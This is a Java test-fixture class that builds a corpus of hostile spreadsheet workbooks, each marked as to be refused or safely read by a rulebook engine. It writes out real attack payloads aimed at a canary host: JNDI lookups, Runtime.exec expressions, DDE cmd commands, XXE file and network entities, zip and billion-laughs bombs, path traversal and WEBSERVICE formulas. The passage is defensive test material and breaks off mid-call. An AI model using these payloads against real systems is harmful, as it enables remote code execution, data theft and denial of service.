package io.pactable.hostile;

import static io.pactable.hostile.HostileFile.added;
import static io.pactable.hostile.HostileFile.joined;
import static io.pactable.hostile.HostileFile.opened;
import static io.pactable.hostile.HostileFile.part;
import static io.pactable.hostile.HostileFile.parts;
import static io.pactable.hostile.HostileFile.raw;
import static io.pactable.hostile.HostileFile.renamed;
import static io.pactable.hostile.HostileFile.zip;

import io.pactable.rulebook.sheet.SheetKind;
import io.pactable.rulebook.write.WorkbookWriter;
import io.pactable.support.Rulebooks;
import io.pactable.support.WorkbookChange;
import io.pactable.support.WorkbookText;
import io.pactable.support.WrongFiles;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.poi.common.usermodel.HyperlinkType;
import org.apache.poi.ss.usermodel.DataValidationHelper;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.ss.util.CellRangeAddressList;
import org.apache.poi.xssf.usermodel.XSSFHyperlink;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

/** The corpus: one line for each file, saying what is hostile in it and what must become of it. */
final class HostileWorkbooks {

    /** What must become of a file. */
    enum Outcome {
        /** There is an error, and nothing is evaluated. */
        REFUSED,
        /** It is read as the text that it is, compiled, evaluated and annotated. */
        READ
    }

    /** Makes the bytes of a file. */
    interface Maker {
        byte[] make() throws IOException;
    }

    /** One file. @param says a piece of the message, where it is refused; may be empty */
    record Hostile(String name, Outcome outcome, String says, Maker maker) {}

    private static final String EXAMPLES = """
            [Examples]
            Example | Part | What | Name | Value
            Low | given | charge | Monthly charge | 1000
            Low | given | kpi | Uptime | 99.5
            Low | expect | breach | 3.1 | Tier 1
            Low | expect | service credit | 4.1 | 50
            """;

    private static final String OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private static final String SHEET = "xl/worksheets/sheet6.xml";
    private static final String STRINGS = "xl/sharedStrings.xml";
    private static final String DATA = "</sheetData>";

    private final Canary canary;
    private final Map<SheetKind, List<Map<String, String>>> rows = WorkbookText.rows(Rulebooks.HOSTING + EXAMPLES);
    private final byte[] sound = small(rows);
    private final List<Hostile> all = new ArrayList<>();

    private HostileWorkbooks(Canary canary) {
        this.canary = canary;
    }

    static List<Hostile> all(Canary canary) {
        HostileWorkbooks corpus = new HostileWorkbooks(canary);
        corpus.code();
        corpus.places();
        corpus.technicalRows();
        corpus.packages();
        corpus.entities();
        corpus.bombs();
        corpus.archives();
        corpus.cells();
        corpus.formulas();
        corpus.feel();
        corpus.files();
        return corpus.all;
    }

    private void refused(String name, String says, Maker maker) {
        all.add(new Hostile(name, Outcome.REFUSED, says, maker));
    }

    private void read(String name, Maker maker) {
        all.add(new Hostile(name, Outcome.READ, "", maker));
    }

    /** A workbook without the sheets and rows that are there to be filled in. */
    private static byte[] small(Map<SheetKind, List<Map<String, String>>> rows) {
        return small(rows, 24);
    }

    private static byte[] small(Map<SheetKind, List<Map<String, String>>> rows, int last) {
        return WorkbookChange.cut(
                WorkbookChange.apply(
                        WorkbookWriter.write(rows),
                        "delete sheet Observations && delete sheet Exclusions && delete sheet Escalations"
                                + " && delete sheet Earn-back"),
                last);
    }

    private byte[] change(String changes) {
        return WorkbookChange.apply(sound, changes);
    }

    /** Code where names are written, everywhere that the names are used, and the same code in place of a number. */
    private void code() {
        Map<String, String> payloads = new LinkedHashMap<>();
        payloads.put("a quote that ends a text", "\"); " + canary.code() + " //");
        payloads.put("a backslash before the quote", "\\\"); " + canary.code() + " //");
        payloads.put("the end of a comment", "*/ " + canary.code() + " /*");
        payloads.put("unicode escapes", "\\u0022); " + canary.code().replace("\"", "\\u0022") + " \\u002f\\u002f");
        payloads.put("an MVEL template", "@{" + canary.code() + "}");
        payloads.put("an eval", "99) eval(true) " + canary.code());
        payloads.put("a parameter of Drools", "$param\") $1 $2; " + canary.code());
        payloads.put("a call to the engine", "drools.halt(); kcontext.getKieRuntime().halt(); " + canary.code());
        payloads.put(
                "an expression of Spring",
                "#{T(java.lang.Runtime).getRuntime().exec('touch " + canary.marker() + "')}");
        payloads.put(
                "a look-up of a logger",
                "${jndi:ldap://" + canary.host() + "/a}${env:HOME}${file:" + canary.secret() + "}");
        payloads.put(
                "a page with a script", "<script src=" + canary.url() + "></script><img src=" + canary.url() + ">");
        payloads.put("a format of printf", "%s %n %99999d %1$x {0} {}");
        payloads.put("a formula of a spreadsheet", "=HYPERLINK(\"" + canary.url() + "\")");
        payloads.put("a command of DDE", "=cmd|' /C touch " + canary.marker() + "'!A0");
        payloads.put(
                "a function of FEEL",
                "function(a) external {java: {class: \"java.lang.Runtime\", method signature: \"getRuntime()\"}}");
        payloads.put("another rule", "x\" end rule \"evil\" when then " + canary.code() + " end");
        payloads.forEach((what, payload) -> {
            read("names hold " + what, () -> small(replaced(payload)));
            refused("a number holds " + what, "", () -> opened(sound, w -> set(w, "Remedies", "H11", payload)));
        });
        read(
                "every note of every sheet holds code with line ends",
                () -> opened(sound, w -> {
                    for (SheetKind kind : List.of(
                            SheetKind.CONTRACT,
                            SheetKind.KPIS,
                            SheetKind.SERVICE_LEVELS,
                            SheetKind.REMEDIES,
                            SheetKind.EXAMPLES)) {
                        int note = kind.columns().size() - 1;
                        XSSFSheet sheet = w.getSheet(kind.title());
                        int row = kind.isDecisionTable() ? 10 : 5;
                        sheet.getRow(row)
                                .createCell(note)
                                .setCellValue("x\n\"); " + canary.code() + "\nend\nrule \"y\" when then "
                                        + canary.code() + " end");
                    }
                }));
    }

    private Map<SheetKind, List<Map<String, String>>> replaced(String payload) {
        Map<String, String> names = Map.of(
                "Uptime",
                "Uptime " + payload,
                "Tier 1",
                "Tier 1 " + payload.replace(';', ','),
                "Tier 2",
                "Tier 2 " + payload.replace(';', ','),
                "Monthly charge",
                "Charge " + payload,
                "Provider",
                "Provider " + payload,
                "Low",
                "Low " + payload,
                "Hosting",
                payload,
                "4.1",
                "4.1 " + payload.substring(0, Math.min(20, payload.length())));
        Map<SheetKind, List<Map<String, String>>> changed = new LinkedHashMap<>();
        rows.forEach((kind, of) -> changed.put(
                kind,
                of.stream()
                        .map(row -> {
                            Map<String, String> texts = new LinkedHashMap<>();
                            row.forEach((key, text) -> texts.put(key, names.getOrDefault(text, text)));
                            return texts;
                        })
                        .toList()));
        return changed;
    }

    private static void set(XSSFWorkbook workbook, String sheet, String cell, String text) {
        org.apache.poi.ss.util.CellReference at = new org.apache.poi.ss.util.CellReference(cell);
        workbook.getSheet(sheet).getRow(at.getRow()).getCell(at.getCol()).setCellValue(text);
    }

    /** Code where no clause stands. */
    private void places() {
        String code = "\"); " + canary.code() + " //";
        read(
                "captions hold code",
                () -> change(
                        "Remedies!A10 = text " + code + " && KPIs!A5 = text ${jndi:ldap://" + canary.host() + "/a}"));
        read(
                "a note at a cell holds code",
                () -> opened(
                        sound,
                        w -> w.getSheet("KPIs").getCellComments().values().forEach(c -> c.setString(code))));
        read(
                "a defined name holds code",
                () -> opened(sound, w -> {
                    var name = w.createName();
                    name.setNameName("Evil");
                    name.setRefersToFormula("WEBSERVICE(\"" + canary.url() + "\")");
                }));
        read("a further sheet is named as code", () -> change("add sheet ${jndi ldap} eval() \"; "));
        read(
                "the properties of the document hold code",
                () -> opened(sound, w -> {
                    w.getProperties().getCoreProperties().setTitle(code);
                    w.getProperties().getCoreProperties().setCreator("${jndi:ldap://" + canary.host() + "/a}");
                    w.getProperties().getCustomProperties().addProperty("RuleSet", code);
                }));
        read(
                "the head and foot of the page hold code",
                () -> opened(sound, w -> {
                    w.getSheet("KPIs").getHeader().setCenter(code);
                    w.getSheet("KPIs").getFooter().setCenter("&\"" + code);
                }));
        read(
                "a list to choose from calls the network",
                () -> opened(sound, w -> {
                    XSSFSheet sheet = w.getSheet("KPIs");
                    DataValidationHelper helper = sheet.getDataValidationHelper();
                    sheet.addValidationData(helper.createValidation(
                            helper.createFormulaListConstraint("WEBSERVICE(\"" + canary.url() + "\")"),
                            new CellRangeAddressList(5, 9, 0, 0)));
                }));
        read(
                "a conditional format calls the network",
                () -> opened(sound, w -> {
                    var formatting = w.getSheet("KPIs").getSheetConditionalFormatting();
                    formatting.addConditionalFormatting(
                            new CellRangeAddress[] {new CellRangeAddress(5, 9, 0, 0)},
                            formatting.createConditionalFormattingRule("LEN(WEBSERVICE(\"" + canary.url() + "\"))>0"));
                }));
        read(
                "a link of a cell opens a file",
                () -> opened(sound, w -> link(w, HyperlinkType.FILE, "file://" + canary.secret())));
        read(
                "a link of a cell is a script",
                () -> part(
                        opened(sound, w -> link(w, HyperlinkType.URL, canary.url())),
                        "xl/worksheets/_rels/sheet4.xml.rels",
                        x -> x.replace(canary.url(), "javascript:alert(1)")));
    }

    private static void link(XSSFWorkbook workbook, HyperlinkType type, String address) {
        XSSFHyperlink link = workbook.getCreationHelper().createHyperlink(type);
        link.setAddress(address);
        workbook.getSheet("KPIs").getRow(5).getCell(0).setHyperlink(link);
    }

    private void technicalRows() {
        String code = canary.code();
        refused("a technical row runs code", "hidden technical rows", () -> change("Remedies!A9 = text " + code));
        refused(
                "a technical row of a condition runs code",
                "hidden technical rows",
                () -> change("Service levels!E8 = text FactTypeOf(" + code + ")"));
        refused("an import of the table is code", "", () -> change("Remedies!C4 = text java.lang.Runtime"));
        refused(
                "a line of functions stands above the table",
                "hidden technical rows",
                () -> change("Remedies!A5 = text Functions && Remedies!B5 = text function void f() { " + code + " }"));
        refused(
                "a second table stands below",
                "",
                () -> change(
                        "Service levels!A20 = text RuleTable evil && Service levels!A21 = text ACTION && Service levels!A23 = text "
                                + code));
        refused(
                "the technical rows of another sheet",
                "technical rows",
                () -> change("Service levels!A6 = text RuleTable Remedies"));
        refused(
                "a technical column twice",
                "hidden technical rows",
                () -> change("KPIs!B4 = text kpi && KPIs!A4 = text kpi"));
        refused(
                "a further technical column",
                "hidden technical rows",
                () -> change("Limits!AZ7 = text ACTION && Limits!AZ9 = text " + code));
        refused(
                "technical rows in a sheet of another name",
                "another name",
                () -> change("rename sheet Hours to Evil"));
        refused("the technical rows are numbers", "technical rows", () -> change("Service levels!A6 = number 1"));
    }

    private void packages() throws IllegalStateException {
        byte[] bytes = {1, 2, 3, 4};
        refused("macros", "macros", () -> WrongFiles.make("macros", sound));
        refused(
                "a project of macros in an ordinary workbook",
                "macros",
                () -> added(
                        sound,
                        "xl/workbook.xml",
                        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                        "xl/vbaProject.bin",
                        "application/vnd.ms-office.vbaProject",
                        bytes));
        refused(
                "a sheet of Excel 4 macros",
                "macros",
                () -> raw(sound, "xl/macrosheets/sheet1.xml", "<macrosheet/>".getBytes(StandardCharsets.UTF_8)));
        refused(
                "a connection to a database",
                "fetches data",
                () -> added(
                        sound,
                        "xl/workbook.xml",
                        OFFICE + "connections",
                        "xl/connections.xml",
                        "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
                        "<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><connection id=\"1\" name=\"x\" type=\"4\"><webPr url=\"%s\"/></connection></connections>"
                                .formatted(canary.url())
                                .getBytes(StandardCharsets.UTF_8)));
        refused(
                "a query of the web",
                "fetches data",
                () -> raw(sound, "xl/queryTables/queryTable1.xml", "<queryTable/>".getBytes(StandardCharsets.UTF_8)));
        read(
                "a link to another workbook",
                () -> part(
                        added(
                                sound,
                                "xl/workbook.xml",
                                OFFICE + "externalLink",
                                "xl/externalLinks/externalLink1.xml",
                                "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
                                "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><externalBook r:id=\"rId1\"/></externalLink>"
                                        .getBytes(StandardCharsets.UTF_8)),
                        "xl/externalLinks/_rels/externalLink1.xml.rels",
                        x ->
                                "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"%sexternalLinkPath\" Target=\"%s\" TargetMode=\"External\"/></Relationships>"
                                        .formatted(OFFICE, canary.url())));
        read(
                "a DDE link",
                () -> added(
                        sound,
                        "xl/workbook.xml",
                        OFFICE + "externalLink",
                        "xl/externalLinks/externalLink1.xml",
                        "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
                        "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/C touch %s\"/></externalLink>"
                                .formatted(canary.marker())
                                .getBytes(StandardCharsets.UTF_8)));
        read(
                "an embedded object",
                () -> added(
                        sound,
                        SHEET,
                        OFFICE + "oleObject",
                        "xl/embeddings/oleObject1.bin",
                        "application/vnd.openxmlformats-officedocument.oleObject",
                        bytes));
        read(
                "a relation to a page of the network",
                () -> part(
                        sound,
                        "xl/_rels/workbook.xml.rels",
                        x -> x.replace(
                                "</Relationships>",
                                "<Relationship Id=\"rEvil\" Type=\"%simage\" Target=\"%s\" TargetMode=\"External\"/></Relationships>"
                                        .formatted(OFFICE, canary.url()))));
        read(
                "the shared texts come from the network",
                () -> part(
                        sound,
                        "xl/_rels/workbook.xml.rels",
                        x -> x.replaceFirst(
                                "Target=\"/?(xl/)?sharedStrings.xml\"",
                                "Target=\"" + canary.url() + "\" TargetMode=\"External\"")));
        refused(
                "a sheet comes from a file of the machine",
                "",
                () -> part(
                        sound,
                        "xl/_rels/workbook.xml.rels",
                        x -> x.replace(
                                "Target=\"worksheets/sheet6.xml\"",
                                "Target=\"file://" + canary.secret() + "\" TargetMode=\"External\"")));
        refused(
                "a target climbs out of the archive",
                "",
                () -> part(
                        sound,
                        "xl/_rels/workbook.xml.rels",
                        x -> x.replace(
                                "Target=\"worksheets/sheet6.xml\"",
                                "Target=\"../../../../../../.." + canary.secret() + "\"")));
    }

    private void entities() {
        String file = "<!DOCTYPE x [<!ENTITY e SYSTEM \"file://%s\">]>".formatted(canary.secret());
        String network = "<!DOCTYPE x [<!ENTITY e SYSTEM \"%s\">]>".formatted(canary.url());
        String parameter = "<!DOCTYPE x [<!ENTITY %% p SYSTEM \"%s\"> %%p;]>".formatted(canary.url());
        String outer = "<!DOCTYPE x SYSTEM \"%s\">".formatted(canary.url());
        StringBuilder laughs = new StringBuilder("<!DOCTYPE x [<!ENTITY a0 \"ha\">");
        for (int i = 1; i < 30; i++) {
            laughs.append("<!ENTITY a%s \"&a%s;&a%s;\">".formatted(i, i - 1, i - 1));
        }
        laughs.append("]>");
        for (String part : List.of(
                STRINGS,
                SHEET,
                "xl/workbook.xml",
                "xl/styles.xml",
                "docProps/core.xml",
                "docProps/app.xml",
                "_rels/.rels",
                "xl/_rels/workbook.xml.rels",
                "[Content_Types].xml")) {
            refused("an entity of a file in " + part, "document type", () -> entity(part, file, "&e;"));
        }
        refused("an entity of the network in the shared texts", "document type", () -> entity(STRINGS, network, "&e;"));
        refused("a parameter entity in a sheet", "document type", () -> entity(SHEET, parameter, ""));
        refused("an outer document type in the workbook", "document type", () -> entity("xl/workbook.xml", outer, ""));
        refused("a billion laughs", "document type", () -> entity(STRINGS, laughs.toString(), "&a29;"));
        refused(
                "an entity in a part in UTF-16",
                "document type",
                () -> raw(sound, SHEET, utf16(withEntity(text(SHEET), file, "&e;"))));
        refused(
                "an entity in EBCDIC",
                "",
                () -> raw(
                        sound,
                        SHEET,
                        withEntity(text(SHEET), file, "&e;")
                                .replace("UTF-8", "Cp037")
                                .getBytes("Cp037")));
        refused(
                "a stylesheet of the network in front",
                "",
                () -> part(
                        sound,
                        SHEET,
                        x -> x.replaceFirst(
                                "\\?>",
                                "?><?xml-stylesheet href=\"" + canary.url()
                                        + "\"?><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\""
                                        + canary.url() + "\"/>")));
    }

    private String text(String part) throws IOException {
        return new String(parts(sound).getOrDefault(part, new byte[0]), StandardCharsets.UTF_8);
    }

    private byte[] entity(String part, String type, String reference) throws IOException {
        return part(sound, part, x -> withEntity(x, type, reference));
    }

    private static String withEntity(String xml, String type, String reference) {
        int start = xml.startsWith("<?xml") ? xml.indexOf("?>") + 2 : 0;
        int first = xml.indexOf('>', xml.indexOf('<', start)) + 1;
        return xml.substring(0, start) + type + xml.substring(start, first) + reference + xml.substring(first);
    }

    private static byte[] utf16(String xml) {
        return xml.replace("UTF-8", "UTF-16").getBytes(StandardCharsets.UTF_16);
    }

    private void bombs() {
        refused("a sheet with 300 megabytes of blanks", "unpacks to too much", () -> WrongFiles.make("bomb", sound));
        refused(
                "shared texts of 60 megabytes",
                "unpacks to too much",
                () -> part(
                        sound,
                        STRINGS,
                        x -> x.replace("</sst>", "<si><t>" + "A".repeat(60 << 20) + "</t></si></sst>")));
        refused("600 parts", "parts", () -> many(600));
        read(
                "an archive within the archive",
                () -> added(
                        sound,
                        SHEET,
                        OFFICE + "oleObject",
                        "xl/embeddings/nested.bin",
                        "application/zip",
                        WrongFiles.make("bomb", sound)));
        refused("a million rows", "rows", () -> rows(1_000_000, "<c/>"));
        refused(
                "a row at the very end",
                "rows",
                () -> part(
                        sound,
                        SHEET,
                        x -> x.replace(DATA, "<row r=\"1048576\"><c r=\"A1048576\"><v>1</v></c></row>" + DATA)));
        refused("16,384 columns in 200 rows", "cells", () -> rows(200, "<c/>".repeat(16_384)));
        refused(
                "a cell in the last column",
                "outside",
                () -> part(
                        sound, SHEET, x -> x.replace(DATA, "<row r=\"40\"><c r=\"XFD40\"><v>1</v></c></row>" + DATA)));
        read(
                "a dimension that lies",
                () -> part(
                        sound,
                        SHEET,
                        x -> x.replaceFirst("<dimension ref=\"[^\"]*\"", "<dimension ref=\"A1:XFD1048576\"")));
        refused(
                "a hundred thousand styles",
                "cell styles",
                () -> part(
                        sound, "xl/styles.xml", x -> x.replace("</cellXfs>", "<xf/>".repeat(100_000) + "</cellXfs>")));
        refused("a hundred thousand merged areas", "merged areas", () -> merged(100_000, "A%1$s:B%1$s"));
        refused("thousands of merged areas on top of each other", "merged", () -> merged(1_900, "A11:XFD%1$s"));
        refused(
                "a hundred thousand names",
                "defined names",
                () -> part(
                        sound,
                        "xl/workbook.xml",
                        x -> x.replace(
                                "</sheets>",
                                "</sheets><definedNames>" + "<definedName name=\"n\">1</definedName>".repeat(100_000)
                                        + "</definedNames>")));
        refused(
                "a hundred thousand notes",
                "notes",
                () -> part(
                        sound,
                        "xl/comments1.xml",
                        x -> x.replace("</commentList>", "<comment ref=\"A1\"/>".repeat(100_000) + "</commentList>")));
        refused(
                "elements 200,000 deep",
                "",
                () -> part(sound, SHEET, x -> x.replace(DATA, DATA + "<a>".repeat(200_000) + "</a>".repeat(200_000))));
        refused(
                "an element with 50,000 attributes",
                "",
                () -> part(sound, SHEET, x -> x.replace(DATA, DATA + "<a" + attributes(50_000) + "/>")));
        refused(
                "five million elements where nobody looks",
                "cells",
                () -> part(
                        sound,
                        SHEET,
                        x -> x.replace(DATA, DATA + "<extLst>" + "<e/>".repeat(5_000_000) + "</extLst>")));
        refused(
                "a number format of 30,000 brackets",
                "",
                () -> part(
                        change("Remedies!H11 = number 5 as 0.00000"),
                        "xl/styles.xml",
                        x -> x.replace("0.00000", "[".repeat(15_000) + "0" + "]".repeat(15_000))));
        refused("the width of an archive in one text", "characters", () -> change("KPIs!A6 = long Uptime 32000"));
    }

    private byte[] many(int count) throws IOException {
        Map<String, byte[]> parts = parts(sound);
        for (int i = 0; i < count; i++) {
            parts.put("xl/media/image" + i + ".png", new byte[0]);
        }
        return zip(parts);
    }

    private byte[] rows(int count, String cells) throws IOException {
        return part(sound, SHEET, x -> x.replace(DATA, ("<row>" + cells + "</row>").repeat(count) + DATA));
    }

    private byte[] merged(int count, String area) throws IOException {
        StringBuilder areas = new StringBuilder();
        for (int i = 0; i < count; i++) {
            areas.append("<mergeCell ref=\"").append(area.formatted(i + 20)).append("\"/>");
        }
        return part(
                sound,
                SHEET,
                x -> x.replaceFirst("<mergeCells[^>]*>", "$0" + areas)
                        .replace(DATA, "<row r=\"19999\"><c r=\"A19999\"/></row>" + DATA));
    }

    private static String attributes(int count) {
        StringBuilder all = new StringBuilder();
        for (int i = 0; i < count; i++) {
            all.append(" a").append(i).append("=\"\"");
        }
        return all.toString();
    }

    private void archives() {
        refused(
                "a part climbs out of the archive",
                "name that no spreadsheet gives",
                () -> raw(sound, "../../evil.xml", new byte[0]));
        refused(
                "a part has an absolute path",
                "name that no spreadsheet gives",
                () -> raw(sound, "/etc/evil.xml", new byte[0]));
        refused(
                "a part has a path of Windows",
                "name that no spreadsheet gives",
                () -> raw(sound, "C:\\evil.xml", new byte[0]));
        refused("a name with a NUL", "name that no spreadsheet gives", () -> raw(sound, "xl/evil\0.xml", new byte[0]));
        refused(
                "two parts of one name",
                "same name",
                () -> renamed(
                        raw(
                                sound,
                                "xl/worksheets/sheetX.xml",
                                text(SHEET).replace("99", "11").getBytes(StandardCharsets.UTF_8)),
                        "sheetX.xml",
                        "sheet6.xml",
                        2));
        refused(
                "two parts whose names differ by case",
                "same name",
                () -> raw(sound, "XL/worksheets/SHEET6.xml", text(SHEET).getBytes(StandardCharsets.UTF_8)));
        refused(
                "a part that the table of contents does not list",
                "table of contents",
                () -> renamed(
                        raw(sound, "xl/worksheets/sheetX.xml", "<x/>".getBytes(StandardCharsets.UTF_8)),
                        "sheetX.xml",
                        "sheetY.xml",
                        1));
        refused("bytes behind the end", "", () -> joined(sound, "<?php evil() ?>".getBytes(StandardCharsets.UTF_8)));
        refused("bytes before the beginning", "", () -> joined("#!/bin/sh\n".getBytes(StandardCharsets.UTF_8), sound));
        refused("two archives in one file", "", () -> joined(sound, sound));
        refused("a size that lies", "", () -> lyingSize());
        refused("a checksum that lies", "", () -> lyingChecksum());
    }

    /** The archive whose first part says that it is longer than it is. */
    private byte[] lyingSize() {
        byte[] changed = sound.clone();
        for (int i = 0; i + 16 < changed.length; i++) {
            if (changed[i] == 'P' && changed[i + 1] == 'K' && changed[i + 2] == 7 && changed[i + 3] == 8) {
                changed[i + 12] ^= 0x7f;
                return changed;
            }
        }
        throw new IllegalStateException("The archive has no sizes behind its parts.");
    }

    private byte[] lyingChecksum() {
        byte[] changed = sound.clone();
        for (int i = 0; i + 16 < changed.length; i++) {
            if (changed[i] == 'P' && changed[i + 1] == 'K' && changed[i + 2] == 7 && changed[i + 3] == 8) {
                changed[i + 4] ^= 0x7f;
                return changed;
            }
        }
        throw new IllegalStateException("The archive has no checksums behind its parts.");
    }

    private void cells() {
        refused("a number of 1E308", "15 digits", () -> change("Remedies!H11 = number 1E308"));
        refused("a number of 1E-400000", "too large or too small", () -> change("Remedies!H11 = number 1E-400000"));
        refused(
                "a number of 1E2000000000",
                "too large or too small",
                () -> change("Remedies!H11 = number 1E2000000000"));
        refused(
                "a number with 100,000 digits",
                "not a number",
                () -> part(
                        change("Remedies!H11 = number 5"),
                        "xl/worksheets/sheet8.xml",
                        x -> x.replaceFirst("<v>5</v>", "<v>" + "9".repeat(100_000) + "</v>")));
        refused("not a number at all", "not a number", () -> change("Remedies!H11 = number NaN"));
        refused("code in a number of the file", "not a number", () -> change("Remedies!H11 = number 50B) eval(true)"));
        refused(
                "a shared text that is not there",
                "",
                () -> part(sound, SHEET, x -> x.replaceAll("t=\"s\"><v>[0-9]+</v>", "t=\"s\"><v>99999999</v>")));
        refused(
                "a shared text with a negative number",
                "",
                () -> part(sound, SHEET, x -> x.replaceAll("t=\"s\"><v>[0-9]+</v>", "t=\"s\"><v>-1</v>")));
        read("a style that is not there", () -> part(sound, SHEET, x -> x.replaceAll(" s=\"[0-9]+\"", " s=\"99999\"")));
        refused(
                "a cell at a place that is none",
                "",
                () -> part(sound, SHEET, x -> x.replaceFirst("r=\"A12\"", "r=\"12A\"")));
        refused(
                "a control character",
                "cannot be seen",
                () -> part(sound, STRINGS, x -> x.replace("Uptime", "Up_x0007_time")));
        refused(
                "half a character",
                "cannot be seen",
                () -> part(sound, STRINGS, x -> x.replace("Uptime", "Up_xD83D_time")));
        refused("a text that turns its direction", "turn the direction", () -> change("KPIs!A6 = text Up<U+202E>time"));
        refused(
                "letters of tags, which nobody sees",
                "cannot be seen",
                () -> change("KPIs!A6 = text Uptime\uDB40\uDC41\uDB40\uDC42"));
        refused(
                "a Cyrillic letter in a name",
                "looks like the Latin",
                () -> change("Service levels!D12 = text Uptim<U+0435>"));
        read("a name in which a zero-width space hides", () -> change("Service levels!C11 = text Up<U+200B>time"));
        read("a part in UTF-16", () -> raw(sound, SHEET, utf16(text(SHEET))));
        refused(
                "a part in UTF-7",
                "",
                () -> part(
                        sound, SHEET, x -> x.replace("UTF-8", "UTF-7").replace("<sheetData>", "+ADw-sheetData+AD4-")));
        refused(
                "a part with broken UTF-8",
                "",
                () -> raw(
                        sound,
                        STRINGS,
                        joined(text(STRINGS).replace("</sst>", "<si><t>").getBytes(StandardCharsets.UTF_8), new byte[] {
                            (byte) 0xc3, 0x28, '<', '/', 't', '>', '<', '/', 's', 'i', '>', '<', '/', 's', 's', 't', '>'
                        })));
        refused("the logical value true", "logical value", () -> change("KPIs!D6 = logical TRUE"));
        refused("an error in a cell", "error", () -> change("KPIs!D6 = error #N/A"));
        refused("a hidden row that says more", "hidden", () -> change("hide row Service levels!12"));
    }

    private void formulas() {
        for (String call : List.of(
                "INDIRECT(\"A1\")",
                "HYPERLINK(\"" + canary.url() + "\",5)",
                "WEBSERVICE(\"" + canary.url() + "\")",
                "CALL(\"kernel32\",\"WinExec\",\"JC\",\"calc\")",
                "REGISTER(\"kernel32\",\"WinExec\")",
                "RTD(\"evil\",\"" + canary.host() + "\",\"x\")",
                "IMAGE(\"" + canary.url() + "\")",
                "FILTERXML(\"<a/>\",\"//a\")",
                "INFO(\"directory\")",
                "CELL(\"filename\")")) {
            refused("a formula with " + call.substring(0, call.indexOf('(')), "another day", () -> formula(call, "5"));
        }
        refused("a formula of DDE", "another file", () -> formula("cmd|'/C touch " + canary.marker() + "'!A0", "5"));
        refused(
                "a formula of another workbook",
                "another file",
                () -> formula("'http://" + canary.host() + "/[evil.xlsx]Sheet1'!A1", "5"));
        refused(
                "a formula with 8,000 brackets",
                "too long",
                () -> formula("(".repeat(8_000) + "1" + ")".repeat(8_000), "1"));
        refused(
                "a formula with 240 brackets and no sense",
                "",
                () -> formula("(".repeat(240) + "1/0" + ")".repeat(240), "1"));
        refused(
                "a formula that goes in a circle",
                "",
                () -> change("Remedies!H11 = formula H12+1 stored 5 && Remedies!H12 = formula H11+1 stored 6"));
        refused("a stored value that lies", "another result", () -> formula("2+3", "50"));
        refused("a formula over all cells of the sheet", "", () -> formula("SUM(A11:XFD1048576)", "5"));
        refused(
                "a formula that multiplies the sheet by itself",
                "",
                () -> formula("SUM(MMULT(A1:ALL1000,A1:ALL1000))", "5"));
        refused("formulas that double a text 40 times", "joins texts", this::doubling);
        refused(
                "a text repeated 100 million times",
                "cannot be checked",
                () -> formula("LEN(REPT(\"A\",100000000))", "100000000"));
        refused("a text put into itself", "cannot be checked", () -> formula("LEN(SUBSTITUTE(A11,\"4\",A11))", "3"));
        refused("a formula of an array without end", "", () -> formula("SUM(ROW(1:1048576)*COLUMN(A:XFD))", "5"));
        read("a chain of 300 formulas", () -> chain(300));
        refused("a chain of 5,000 formulas", "cannot be checked", () -> chain(5_000));
    }

    private byte[] formula(String formula, String stored) throws IOException {
        return part(
                change("Remedies!H11 = number 424242"),
                "xl/worksheets/sheet8.xml",
                x -> x.replaceFirst(
                        "<v>424242</v>",
                        "<f>"
                                + formula.replace("&", "&amp;")
                                        .replace("<", "&lt;")
                                        .replace("$", "\\$") + "</f><v>" + stored + "</v>"));
    }

    private byte[] doubling() throws IOException {
        return opened(sound, w -> {
            XSSFSheet more = w.createSheet("Remarks");
            more.createRow(0).createCell(0).setCellValue("A".repeat(100));
            for (int r = 1; r <= 40; r++) {
                more.createRow(r).createCell(0).setCellFormula("A%1$s&A%1$s".formatted(r));
            }
            var cell = w.getSheet("KPIs").getRow(5).getCell(1);
            cell.setCellFormula("LEFT(Remarks!A41,1)");
            cell.setCellValue("A");
        });
    }

    private byte[] chain(int length) throws IOException {
        return opened(sound, w -> {
            XSSFSheet more = w.createSheet("Remarks");
            more.createRow(0).createCell(0).setCellValue(5);
            for (int r = 1; r <= length; r++) {
                var cell = more.createRow(r).createCell(0);
                cell.setCellFormula("A%s+0".formatted(r));
                cell.setCellValue(5);
            }
            for (int r = 10; r <= 11; r++) {
                var cell = w.getSheet("Remedies").getRow(r).getCell(7);
                cell.setCellFormula("Remarks!A" + (length - 15 + r) + (r == 10 ? "" : "+10"));
                cell.setCellValue(r == 10 ? 5 : 15);
            }
        });
    }

    /** Formulas of clauses: refused when they are checked, or stopped when they run, which an example then shows. */
    private void feel() {
        refused(
                "FEEL that calls Java",
                "",
                () -> feel(
                        "(function(a) external {java: {class: \"java.lang.Runtime\", method signature: \"getRuntime()\"}})(1)"));
        refused(
                "FEEL that defines a function that calls itself",
                "",
                () -> feel("{f: function(n) f(n + 1), r: f(1)}.r"));
        refused("FEEL that asks for the time", "", () -> feel("number(string(now()))"));
        refused(
                "FEEL that reaches a class by a path",
                "",
                () -> feel("value.getClass().forName(\"java.lang.Runtime\")"));
        refused("FEEL over a billion numbers", "", () -> feel("sum(for i in 1..1000000000 return i)"));
        read("200 formulas that each work for long", () -> manyFormulas(200));
        read(
                "FEEL loops in loops",
                () -> feel("count(for a in 1..1000, b in 1..1000, c in 1..1000, d in 1..1000 return 1)"));
        read("FEEL over a range that is worked out", () -> feel("count(for i in 1..(value * 100000000) return i)"));
        read(
